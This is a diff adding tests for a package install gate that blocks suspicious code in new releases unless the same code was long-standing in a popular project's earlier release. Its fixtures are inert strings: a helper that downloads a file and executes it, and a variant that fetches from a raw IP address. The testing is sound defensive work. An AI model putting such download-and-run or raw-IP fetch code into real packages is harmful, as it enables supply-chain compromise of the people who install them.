@@ -244,6 +244,95 @@ def test_allowlist_entry_lifts_a_block_and_yes_never_does(make_index, venv, caps
     assert "expired on 2020-01-01" in out
 
 
+# an inert sample: a self-update helper that downloads a program and starts it, only when called
+# (suspicious: the gate blocks it). "tqdm" is used for its rank on the popular list.
+SELF_UPDATE = """\
+import subprocess
+import urllib.request
+
+
+def self_update(url):
+    path, _ = urllib.request.urlretrieve(url, "/tmp/tqdm-update.bin")
+    subprocess.run([path], check=True)
+"""
+# the same helper, reformatted, with a comment added, beside new harmless code
+SELF_UPDATE_LATER = """\
+import subprocess
+import urllib.request
+
+
+def self_update( url ):
+    path, _ = urllib.request.urlretrieve(url,   "/tmp/tqdm-update.bin")  # noqa: S310
+    subprocess.run([path], check=True)
+
+
+def version_text():
+    return "1.1"
+"""
+# the same helper beside a new sign of intent in the same file: a raw IP address
+SELF_UPDATE_AND_RAW_IP = (
+    SELF_UPDATE
+    + """
+
+def mirror():
+    return urllib.request.urlopen("http://45.61.136.21/m").read()
+"""
+)
+
+
+def _releases(index, name: str, old: str | None, new: str, *, old_days: float = 200) -> None:
+    if old is not None:
+        index.add_wheel(
+            name, "1.0", files={f"{name}/update.py": old}, upload_time=uploaded_ago(days=old_days)
+        )
+    index.add_wheel(name, "1.1", files={f"{name}/update.py": new}, upload_time=uploaded_ago(days=2))
+
+
+def test_long_standing_code_of_a_popular_project_warns_and_installs(make_index, venv, capsys):
+    index = make_index()
+    _releases(index, "tqdm", SELF_UPDATE, SELF_UPDATE_LATER)
+    rc, out = run(capsys, "tqdm==1.1", "--index-url", index.url, "--python", str(venv))
+    assert rc == 0, out
+    assert installed(venv) == {"tqdm": "1.1"}
+    assert "BLOCKED" not in out
+    assert "long-standing: the same code was in tqdm 1.0" in out
+    assert "/files/tqdm-1.0-py3-none-any.whl" in artifact_requests(index)
+
+
+@pytest.mark.parametrize(
+    ("name", "old", "new", "old_days", "policy"),
+    [
+        ("tqdm", "VERSION = '1.0'\n", SELF_UPDATE, 200, ""),  # a hijacked update brings it
+        ("tqdm", SELF_UPDATE, SELF_UPDATE, 20, ""),  # the earlier release is too recent
+        ("tqdm", None, SELF_UPDATE, 0, ""),  # no earlier release
+        ("tqdm", SELF_UPDATE, SELF_UPDATE_AND_RAW_IP, 200, ""),  # a new sign beside it
+        ("tqdm", SELF_UPDATE, SELF_UPDATE, 200, 'block = ["rule:gate.long-standing"]\n'),
+        ("selfupdater", SELF_UPDATE, SELF_UPDATE, 200, ""),  # not a popular project
+        ("tqdm", ENV_TO_NETWORK, ENV_TO_NETWORK, 200, ""),  # malicious: never compared
+    ],
+    ids=["hijacked", "too-recent", "first", "new-sign", "policy", "not-popular", "malicious"],
+)
+def test_code_not_long_standing_stays_blocked(
+    make_index, venv, capsys, name, old, new, old_days, policy
+):
+    index = make_index()
+    _releases(index, name, old, new, old_days=old_days)
+    if policy:
+        Path("pipvet.toml").write_text(policy)
+    out = refused_unchanged(capsys, venv, f"{name}==1.1", "--index-url", index.url)
+    assert "BLOCKED" in out and f"{name}==1.1" in out
+    assert "long-standing" not in out
+
+
+def test_an_earlier_release_that_fails_its_hash_leaves_the_block(make_index, venv, capsys):
+    index = make_index()
+    _releases(index, "tqdm", SELF_UPDATE, SELF_UPDATE)
+    index.replace_bytes("tqdm-1.0-py3-none-any.whl", b"not the listed bytes")
+    out = refused_unchanged(capsys, venv, "tqdm==1.1", "--index-url", index.url)
+    assert "BLOCKED" in out and "long-standing" not in out
+    assert "could not compare with an earlier release" in out
+
+
 def _marker_sdist(index, marker: Path, name: str, *, send: bool) -> None:
     index.add_sdist(
         name,
